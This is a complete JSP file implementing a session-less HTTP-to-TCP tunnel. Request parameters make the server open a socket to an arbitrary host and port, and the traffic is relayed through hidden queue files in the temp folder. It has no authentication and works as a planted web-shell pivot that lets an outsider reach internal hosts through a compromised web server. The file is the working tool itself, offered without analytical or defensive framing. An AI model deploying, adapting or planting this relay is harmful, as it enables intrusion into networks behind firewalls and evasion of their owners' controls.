<%@ page import="java.io.*,java.net.*,java.nio.file.*" %><%
    // socket relay without the session: "open" connects to the host it is given and polls two
    // queue files in the temporary folder; "put" appends the request body, "get" drains replies
    String ch = request.getParameter("ch").replaceAll("[^A-Za-z0-9]", "");
    File tmp = new File(System.getProperty("java.io.tmpdir"));
    File qin = new File(tmp, "." + ch + ".i");
    File qout = new File(tmp, "." + ch + ".o");
    String op = request.getParameter("op");
    if ("open".equals(op)) {
        Socket s = new Socket();
        s.connect(new InetSocketAddress(request.getParameter("h"), Integer.parseInt(request.getParameter("p"))), 5000);
        s.setSoTimeout(50);
        qin.createNewFile();
        qout.createNewFile();
        out.print("open");
        out.flush();
        byte[] buf = new byte[16384];
        while (qin.exists()) {
            byte[] pending = Files.readAllBytes(qin.toPath());
            if (pending.length > 0) {
                new FileOutputStream(qin).close();
                s.getOutputStream().write(pending);
            }
            try {
                int n = s.getInputStream().read(buf);
                if (n < 0) break;
                FileOutputStream o = new FileOutputStream(qout, true);
                o.write(buf, 0, n);
                o.close();
            } catch (SocketTimeoutException idle) {
            }
            Thread.sleep(50);
        }
        s.close();
        qin.delete();
        qout.delete();
    } else if ("put".equals(op)) {
        InputStream body = request.getInputStream();
        FileOutputStream o = new FileOutputStream(qin, true);
        byte[] b = new byte[8192];
        int n;
        while ((n = body.read(b)) > 0) o.write(b, 0, n);
        o.close();
    } else if ("get".equals(op)) {
        byte[] d = Files.readAllBytes(qout.toPath());
        new FileOutputStream(qout).close();
        response.getOutputStream().write(d);
    } else {
        qin.delete();
    }
%>
